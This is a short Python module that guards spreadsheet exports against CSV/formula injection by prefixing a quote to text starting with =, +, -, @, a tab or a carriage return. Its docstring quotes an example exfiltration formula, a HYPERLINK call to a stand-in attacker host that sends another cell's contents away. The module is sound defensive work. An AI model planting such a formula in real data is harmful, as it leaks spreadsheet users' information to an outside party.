"""What every spreadsheet export does to the text it writes.

A cell whose text starts with = + - @ (or a tab or carriage return) is read by Excel, LibreOffice and
WPS as a formula: a leave reason like `=HYPERLINK("http://evil.example/?"&B2,"详情")` would run in the
coordinator's spreadsheet and send other cells away. OWASP's CSV-injection guidance: prefix such text
with a single quote, so it is shown as typed and never evaluated. Numbers and dates are written as
numbers and dates, not text, so they keep their type and are never touched.
"""
from __future__ import annotations

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """`value` as a spreadsheet may safely receive it: text that would start a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
